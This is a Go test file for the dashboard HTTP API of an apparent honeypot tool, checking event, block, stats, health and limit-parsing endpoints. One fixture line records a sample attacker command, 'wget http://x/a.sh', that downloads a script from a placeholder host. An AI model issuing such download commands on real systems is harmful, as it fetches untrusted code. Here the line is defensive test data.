package dashboard

import (
	"context"
	"encoding/json"
	"honeyguard/internal/logging"
	"honeyguard/internal/registry"
	"honeyguard/internal/sink"
	"honeyguard/internal/storage"
	"honeyguard/internal/types"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func newTestServer(t *testing.T) (*httptest.Server, *sink.Sink, *registry.Registry) {
	t.Helper()
	ctx := context.Background()
	db, err := storage.Open(ctx, filepath.Join(t.TempDir(), "hg.db"))
	require.NoError(t, err)
	t.Cleanup(func() { db.Close() })

	reg, err := registry.Open(ctx, db, logging.Discard())
	require.NoError(t, err)

	stream := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.WriteHeader(http.StatusTeapot)
	})
	srv := httptest.NewServer(NewServer(NewSQLiteStore(db), reg, stream, logging.Discard()).Handler())
	t.Cleanup(srv.Close)
	return srv, sink.New(db, logging.Discard(), sink.Options{}), reg
}

func getJSON(t *testing.T, url string, v any) {
	t.Helper()
	resp, err := http.Get(url)
	require.NoError(t, err)
	defer resp.Body.Close()
	require.Equal(t, http.StatusOK, resp.StatusCode)
	assert.Equal(t, "application/json", resp.Header.Get("Content-Type"))
	require.NoError(t, json.NewDecoder(resp.Body).Decode(v))
}

func TestAPIEvents(t *testing.T) {
	srv, s, _ := newTestServer(t)
	base := time.Date(2025, 7, 1, 14, 32, 0, 0, time.UTC)
	for i, cmd := range []string{"uname -a", "id", "wget http://x/a.sh"} {
		s.RecordEvent(context.Background(), types.NormalizedEvent{
			SessionID: "s1", SourceIP: "10.0.0.5", OccurredAt: base.Add(time.Duration(i) * time.Second), Command: cmd,
		})
	}

	var events []EventRecord
	getJSON(t, srv.URL+"/api/v1/events?limit=2", &events)
	require.Len(t, events, 2)
	assert.Equal(t, "wget http://x/a.sh", events[0].Command)
	assert.Equal(t, "id", events[1].Command)
	assert.True(t, events[0].OccurredAt.Equal(base.Add(2*time.Second)))
}

func TestAPIBlockedAndStats(t *testing.T) {
	srv, s, reg := newTestServer(t)
	ctx := context.Background()

	s.RecordEvent(ctx, types.NormalizedEvent{SessionID: "s1", SourceIP: "10.0.0.5", OccurredAt: time.Now(), Command: "id"})
	s.RecordEvent(ctx, types.NormalizedEvent{SessionID: "s1", SourceIP: "10.0.0.5", OccurredAt: time.Now(), Command: "ls"})
	s.RecordEvent(ctx, types.NormalizedEvent{SessionID: "s2", SourceIP: "10.0.0.6", OccurredAt: time.Now(), Command: "ls"})

	score := 9.0
	s.RecordDecision(ctx, types.DecisionRecord{DecidedAt: time.Now(), SessionID: "s1", SourceIP: "10.0.0.5", Outcome: "blocked", RiskScore: &score})
	s.RecordDecision(ctx, types.DecisionRecord{DecidedAt: time.Now(), SessionID: "s2", SourceIP: "10.0.0.6", Outcome: "classification_failed", Error: "timeout"})
	require.NoError(t, reg.Insert(ctx, types.BlockRecord{
		SourceIP: "10.0.0.5", BlockedAt: time.Now().UTC(), RiskScore: 9.0, Threat: "Malware Dropper", Rationale: "payload",
	}))

	var blocked []types.BlockRecord
	getJSON(t, srv.URL+"/api/v1/blocked", &blocked)
	require.Len(t, blocked, 1)
	assert.Equal(t, "10.0.0.5", blocked[0].SourceIP)

	var stats Stats
	getJSON(t, srv.URL+"/api/v1/stats", &stats)
	assert.Equal(t, 3, stats.TotalEvents)
	assert.Equal(t, 2, stats.TotalSessions)
	assert.Equal(t, 2, stats.TotalDecisions)
	assert.Equal(t, 1, stats.BlockedCount)
	assert.Equal(t, map[string]int{"blocked": 1, "classification_failed": 1}, stats.Outcomes)
	require.NotEmpty(t, stats.TopAttackers)
	assert.Equal(t, TopAttacker{IP: "10.0.0.5", Commands: 2}, stats.TopAttackers[0])

	var decisions []DecisionRecord
	getJSON(t, srv.URL+"/api/v1/decisions", &decisions)
	require.Len(t, decisions, 2)
	assert.Equal(t, "classification_failed", decisions[0].Outcome)
	assert.Nil(t, decisions[0].RiskScore)
	require.NotNil(t, decisions[1].RiskScore)
	assert.Equal(t, 9.0, *decisions[1].RiskScore)
}

func TestEmptyListsAreArrays(t *testing.T) {
	srv, _, _ := newTestServer(t)

	for _, path := range []string{"/api/v1/events", "/api/v1/blocked", "/api/v1/decisions"} {
		var v []any
		getJSON(t, srv.URL+path, &v)
		assert.NotNil(t, v, path)
		assert.Empty(t, v, path)
	}
}

func TestHealthAndStreamRoutes(t *testing.T) {
	srv, _, _ := newTestServer(t)

	var health map[string]any
	getJSON(t, srv.URL+"/healthz", &health)
	assert.Equal(t, "ok", health["status"])

	resp, err := http.Get(srv.URL + "/ws")
	require.NoError(t, err)
	resp.Body.Close()
	assert.Equal(t, http.StatusTeapot, resp.StatusCode)

	resp, err = http.Post(srv.URL+"/api/v1/events", "application/json", nil)
	require.NoError(t, err)
	resp.Body.Close()
	assert.Equal(t, http.StatusMethodNotAllowed, resp.StatusCode)
}

func TestParseLimit(t *testing.T) {
	cases := map[string]int{
		"":            defaultLimit,
		"?limit=5":    5,
		"?limit=-1":   defaultLimit,
		"?limit=abc":  defaultLimit,
		"?limit=1e9":  defaultLimit,
		"?limit=5000": maxLimit,
	}
	for q, want := range cases {
		r := httptest.NewRequest(http.MethodGet, "/api/v1/events"+q, nil)
		assert.Equal(t, want, parseLimit(r), q)
	}
}
